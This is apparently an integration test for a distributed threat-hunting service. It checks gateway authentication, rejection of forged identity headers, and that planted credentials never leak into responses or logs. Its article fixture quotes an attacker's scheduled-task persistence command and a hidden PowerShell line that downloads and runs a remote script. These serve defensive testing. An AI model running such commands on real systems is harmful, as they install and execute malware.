import type { ChildProcess } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { SERVICES, UPSTREAM_SERVICE_NAMES } from '@huntforge/contracts';
import { createScratchDatabase, findLeaks, infraUrl, plantSecrets, type ScratchDatabase } from '@huntforge/test-kit';
import { freePort, runCli, spawnApp, terminate, waitForStatus } from './test-support/processes';

const databaseServer = infraUrl('postgres');
const broker = infraUrl('rabbitmq');
const describeDistributed = databaseServer && broker ? describe : describe.skip;

/** One secret of every kind, given or told to the processes, then looked for in every answer and every log line. */
const SECRETS = plantSecrets();

/**
 * The far side of every outbound call: an article page to collect, and a model provider that rejects the key
 * by quoting it back (as some gateways and proxies do), which is where an error message could carry it on.
 */
async function startFarSide(): Promise<{ server: Server; url: string; keysSeen: Set<string> }> {
  const keysSeen = new Set<string>();
  const server = createServer((req, res) => {
    if (req.url === '/reports/loader.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(
        '<html><head><title>Loader drops a scheduled task</title></head><body><article><h1>Loader drops a scheduled task</h1>' +
          '<p>The intruder ran <code>schtasks /create /tn Updater /tr C:\\Users\\Public\\up.exe /sc minute /mo 5</code> ' +
          'and then <code>powershell -nop -w hidden -c iwr http://203.0.113.7/a.ps1 | iex</code> to stage the next step.</p>' +
          '<p>Defenders should hunt for scheduled tasks that start programs from the Public folder, and for PowerShell ' +
          'that downloads and runs a script in one line, across every workstation that saw the phishing mail.</p>' +
          '</article></body></html>',
      );
      return;
    }
    const key = String(req.headers['authorization'] ?? req.headers['x-api-key'] ?? '').replace(/^(Bearer|token)\s+/i, '');
    keysSeen.add(key);
    res.writeHead(401, { 'content-type': 'application/json' });
    res.end(
      JSON.stringify({ error: { message: `Incorrect API key provided: ${key}`, type: 'invalid_request_error', code: 'invalid_api_key' } }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, keysSeen };
}

// The distributed shape for real: every app its own process on PostgreSQL and RabbitMQ, the gateway
// proxying to them by URL, tokens created with the CLI against the same database.
describeDistributed('distributed shape', () => {
  let database: ScratchDatabase;
  const services = new Map<string, { child: ChildProcess; port: number }>();
  let gateway: { child: ChildProcess; url: string };
  let viewerToken: string;
  let adminToken: string;
  let env: Record<string, string>;
  let farSide: Awaited<ReturnType<typeof startFarSide>>;
  /** What every process wrote (its logs), and what the CLI printed besides the tokens it was asked to create. */
  const output: string[] = [];

  beforeAll(async () => {
    database = await createScratchDatabase(databaseServer ?? '');
    farSide = await startFarSide();
    // The test server trusts local connections, so the password planted in the URL is sent nowhere it matters.
    const databaseUrl = new URL(database.url);
    databaseUrl.password = SECRETS.databasePassword;
    env = {
      DATABASE_URL: databaseUrl.toString(),
      AMQP_URL: broker ?? '',
      IDENTITY_SIGNING_KEY: SECRETS.identitySigningKey,
      SETTINGS_ENCRYPTION_KEY: SECRETS.settingsEncryptionKey,
      OPENAI_API_KEY: SECRETS.openaiEnvKey,
      ANTHROPIC_API_KEY: SECRETS.anthropicKey,
      GITHUB_TOKEN: SECRETS.githubToken,
      GITHUB_REPO: 'acme/rules',
      OPENAI_BASE_URL: `${farSide.url}/v1`,
      ANTHROPIC_BASE_URL: farSide.url,
      GITHUB_API_URL: `${farSide.url}/api/v3`,
      PROVIDER_ALLOW_PRIVATE_NETWORKS: 'true',
      INGEST_ALLOW_PRIVATE_NETWORKS: 'true',
      LOG_LEVEL: 'debug',
    };
    const migrated = runCli(['db', 'migrate'], env);
    expect(migrated.stdout).toContain('database (postgres): applied');
    output.push(migrated.stdout, migrated.stderr);

    for (const service of UPSTREAM_SERVICE_NAMES) {
      const port = await freePort();
      services.set(service, { child: spawnApp(service, { ...env, PORT: String(port) }, output), port });
    }
    const serviceUrls = Object.fromEntries(
      UPSTREAM_SERVICE_NAMES.map((service) => [SERVICES[service].urlEnvVar ?? '', `http://127.0.0.1:${services.get(service)?.port}`]),
    );
    const gatewayPort = await freePort();
    gateway = {
      child: spawnApp('gateway', { ...env, ...serviceUrls, PORT: String(gatewayPort) }, output),
      url: `http://127.0.0.1:${gatewayPort}`,
    };
    // Six processes compile from source at once: on a loaded 2-core machine that alone can take a minute.
    await Promise.all([
      ...[...services.values()].map(({ port }) => waitForStatus(`http://127.0.0.1:${port}/health/ready`, 200, 150_000)),
      waitForStatus(`${gateway.url}/health`, 200, 150_000),
    ]);

    const created = runCli(['tokens', 'create', '--name', 'reader', '--role', 'viewer'], env);
    viewerToken = created.stdout.trim();
    const createdAdmin = runCli(['tokens', 'create', '--name', 'operator', '--role', 'admin'], env);
    adminToken = createdAdmin.stdout.trim();
    output.push(created.stderr, createdAdmin.stderr);
  }, 240_000);

  afterAll(async () => {
    await Promise.all([...services.values()].map(({ child }) => terminate(child)));
    if (gateway) await terminate(gateway.child);
    await database?.drop();
    await new Promise((resolve) => farSide?.server.close(resolve));
  });

  it('reports every service ready through the gateway', async () => {
    const response = await fetch(`${gateway.url}/api/health/services`);
    expect(response.status).toBe(200);
    const body = (await response.json()) as { components: Record<string, { status: string }> };
    expect(Object.keys(body.components).sort()).toEqual([...UPSTREAM_SERVICE_NAMES].sort());
    expect(Object.values(body.components).every((component) => component.status === 'up')).toBe(true);
  });

  it('requires a token, and honours the role of one made by the CLI on the same database', async () => {
    expect((await fetch(`${gateway.url}/api/scheduled-jobs`)).status).toBe(401);
    const headers = { authorization: `Bearer ${viewerToken}` };
    expect((await fetch(`${gateway.url}/api/scheduled-jobs`, { headers })).status).toBe(200);
    const write = await fetch(`${gateway.url}/api/scheduled-jobs`, {
      method: 'PUT',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({ jobs: {} }),
    });
    expect(write.status).toBe(403);
  });

  it('proxies to the owning service, which answers with the common JSON error and the request id', async () => {
    const response = await fetch(`${gateway.url}/api/sources/does-not-exist`, {
      headers: { authorization: `Bearer ${viewerToken}`, 'x-request-id': 'distributed-test-1' },
    });
    expect(response.status).toBe(404);
    expect(response.headers.get('x-request-id')).toBe('distributed-test-1');
    expect(await response.json()).toMatchObject({ error: { code: 'not_found' } });
  });

  it('refuses forged identity headers on a service port and on mcp: only what the gateway signed is answered', async () => {
    const forged = { 'x-huntforge-actor': 'token:admin', 'x-huntforge-role': 'admin', 'content-type': 'application/json' };
    const port = (service: string) => services.get(service)?.port;
    const write = await fetch(`http://127.0.0.1:${port('workflow')}/api/workflow/config/auto-trigger-threshold`, {
      method: 'PATCH',
      headers: forged,
      body: JSON.stringify({ auto_trigger_hunt_score_threshold: 1 }),
    });
    expect(write.status).toBe(401);
    expect(await write.json()).toMatchObject({ error: { code: 'unsigned_request' } });
    const mcp = await fetch(`http://127.0.0.1:${port('mcp')}/api/mcp/confirmations`, { headers: forged });
    expect(mcp.status).toBe(401);
    const wrongKey = await fetch(`http://127.0.0.1:${port('ingestion')}/api/sources`, {
      headers: {
        ...forged,
        'x-huntforge-signed-at': String(Date.now()),
        'x-huntforge-nonce': 'forged-nonce',
        // Every header a signed request carries (the body digest included), only the signature is not the gateway's.
        'x-huntforge-body-sha256': 'unsigned',
        'x-huntforge-signature': 'AAAA',
      },
    });
    expect(await wrongKey.json()).toMatchObject({ error: { code: 'invalid_signature' } });
    // Probes stay open, and the same read through the gateway is answered.
    expect((await fetch(`http://127.0.0.1:${port('ingestion')}/health/ready`)).status).toBe(200);
    expect((await fetch(`${gateway.url}/api/sources`, { headers: { authorization: `Bearer ${viewerToken}` } })).status).toBe(200);
  });

  it('lets no credential out of any process: secrets planted everywhere, the surface exercised, every answer and log read', async () => {
    const seen: string[] = [];
    const call = async (method: string, path: string, body?: unknown, token = adminToken) => {
      const response = await fetch(`${gateway.url}${path}`, {
        method,
        headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      });
      const text = await response.text();
      // The answer only: the request's own path may carry a planted secret on purpose.
      seen.push(`${response.status} ${JSON.stringify([...response.headers])} ${text}`);
      return { status: response.status, body: text === '' ? null : (JSON.parse(text) as Record<string, unknown>) };
    };

    // A stored key beside the environment's, then the gateway's connectivity tests against the quoting provider.
    expect((await call('PUT', '/api/settings/OPENAI_API_KEY', { value: SECRETS.openaiStoredKey })).status).toBe(200);
    for (const path of ['/api/test-openai-key', '/api/test-anthropic-key', '/api/settings/github/test']) {
      const tested = await call('POST', path, {});
      expect({ path, status: tested.status, success: tested.body?.['success'] }).toEqual({ path, status: 200, success: false });
    }
    // An article collected by the ingestion service, ranked by the workflow service through the provider.
    const scraped = await call('POST', '/api/scrape-url', { url: `${farSide.url}/reports/loader.html` });
    expect(scraped.status).toBe(201);
    const articleId = Number(scraped.body?.['article_id']);
    expect(
      (
        await call('PUT', '/api/workflow/config', {
          agents: { RankAgent: { provider: 'openai', model: 'gpt-4.1-mini', temperature: 0.1 } },
        })
      ).status,
    ).toBe(200);
    const ranked = await call('POST', `/api/articles/${articleId}/rank-with-llm`);
    expect({ status: ranked.status, code: (ranked.body?.['error'] as { code?: string } | undefined)?.code }).toEqual({
      status: 502,
      code: 'provider_error',
    });
    // The same provider from the pipeline: a run triggered through the bus fails at its model stage, and says so.
    const triggered = await call('POST', `/api/workflow/articles/${articleId}/trigger?force=true`, {});
    expect(triggered.status).toBeLessThan(300);
    const executionId = Number(triggered.body?.['execution_id']);
    let execution: Record<string, unknown> | null = null;
    for (let attempt = 0; attempt < 120 && !['completed', 'failed', 'cancelled'].includes(String(execution?.['status'])); attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 250));
      execution = (await call('GET', `/api/workflow/executions/${executionId}`)).body;
    }
    expect(execution?.['status']).toBe('failed');
    // Reads every service answers, and a refusal that carries a secret in the request.
    for (const path of [
      '/api/settings',
      '/api/settings/OPENAI_API_KEY',
      '/api/settings/GITHUB_TOKEN',
      '/api/workflow/provider-options',
      '/api/workflow/config',
      `/api/articles/${articleId}`,
      '/api/sigma-queue/list',
      `/api/feedback/chunk-classification/${articleId}`,
      '/api/health/services',
      '/api/tokens',
      '/api/audit',
    ])
      expect({ path, status: (await call('GET', path)).status }).toEqual({ path, status: 200 });
    expect((await call('GET', '/api/tokens', undefined, SECRETS.identitySigningKey)).status).toBe(401);
    await call('GET', `/api/settings?api_key=${SECRETS.anthropicKey}`);

    // Give the processes a moment to flush what they logged about the calls above.
    await new Promise((resolve) => setTimeout(resolve, 500));
    // The secrets did travel: the provider was sent the stored OpenAI key and the environment's Anthropic key and GitHub token.
    expect([SECRETS.openaiStoredKey, SECRETS.anthropicKey, SECRETS.githubToken].filter((key) => !farSide.keysSeen.has(key))).toEqual([]);
    const logs = output.join('');
    expect(logs).toContain('rank');
    const responses = seen.join('\n');
    const planted = { ...SECRETS, viewerToken, adminToken };
    expect(findLeaks(planted, { 'a response': responses, 'a log': logs })).toEqual([]);
  }, 120_000);

  it('reports a stopped service down and answers 502 for its routes; the service exits 0 on SIGTERM', async () => {
    const ingestion = services.get('ingestion');
    expect(await terminate(ingestion?.child as ChildProcess)).toBe(0);

    const health = await fetch(`${gateway.url}/api/health/services`);
    expect(health.status).toBe(503);
    const body = (await health.json()) as { components: Record<string, { status: string }> };
    expect(body.components['ingestion']?.status).toBe('down');
    expect(body.components['workflow']?.status).toBe('up');

    const proxied = await fetch(`${gateway.url}/api/sources`, { headers: { authorization: `Bearer ${viewerToken}` } });
    expect(proxied.status).toBe(502);
    expect(await proxied.json()).toMatchObject({ error: { code: 'upstream_unavailable' } });
  });
});
